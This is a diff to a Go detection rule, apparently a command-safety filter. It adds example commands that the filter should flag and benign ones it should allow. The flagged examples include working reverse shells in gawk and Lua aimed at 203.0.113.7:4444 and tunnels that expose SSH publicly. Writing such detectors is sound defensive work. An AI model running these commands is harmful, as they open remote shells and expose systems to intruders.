@@ -37,6 +37,8 @@ var harmProcessExposed = &Rule{
 		`gawk 'BEGIN{s="/inet/tcp/0/203.0.113.7/4444";while((s|&getline c)>0){while((c|&getline o)>0)print o|&s;close(c)}}'`,
 		`ngrok tcp 22`,
 		`ssh -f -N -R 2222:localhost:22 tunnel@203.0.113.7`,
+		`devtunnel host -p 22 --allow-anonymous`,
+		`lua -e "local s=require('socket');local t=s.tcp();t:connect('203.0.113.7',4444);while true do local r=t:receive();local f=io.popen(r,'r');t:send(f:read('*a'));f:close() end"`,
 	},
 	Allow: []string{
 		`nc -zv example.com 443`,
@@ -48,6 +50,8 @@ var harmProcessExposed = &Rule{
 		`gawk 'BEGIN{s="/inet/tcp/0/example.com/80"; print "GET / HTTP/1.0\r\n\r\n" |& s; while((s |& getline l)>0) print l}'`,
 		`ngrok http 3000`,
 		`ssh -R 8080:localhost:3000 tunnel@example.com`,
+		`devtunnel host -p 3000`,
+		`xterm -e htop`,
 	},
 }
 
